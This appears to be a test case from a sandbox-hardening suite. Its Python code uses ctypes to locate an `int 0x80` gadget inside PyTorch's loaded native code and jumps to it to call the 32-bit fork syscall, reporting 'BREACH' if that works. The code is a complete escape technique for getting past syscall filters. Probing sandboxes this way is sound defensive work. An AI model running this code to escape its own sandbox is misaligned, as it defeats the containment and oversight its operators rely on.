# expect: denied crashed ok error
# tries: the 32-bit entry: finds an `int 0x80` in the bytes of loaded code and jumps to it with eax = 2, fork
import ctypes

new = ctypes.c_void_p.from_address(id(torch._C.TensorBase) + 312).value  # tp_new, in libtorch_python
text = ctypes.string_at(new, 1 << 22)
at = text.find(b"\xcd\x80\xc3")
if at < 0:
    at = text.find(b"\xcd\x80")
print("int 0x80 at", at)
kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_double, ctypes.c_double)  # al counts the vector arguments
if at >= 0 and kind(new + at)(1.0, 2.0) > 0:
    print("BREACH forked by the 32-bit entry")
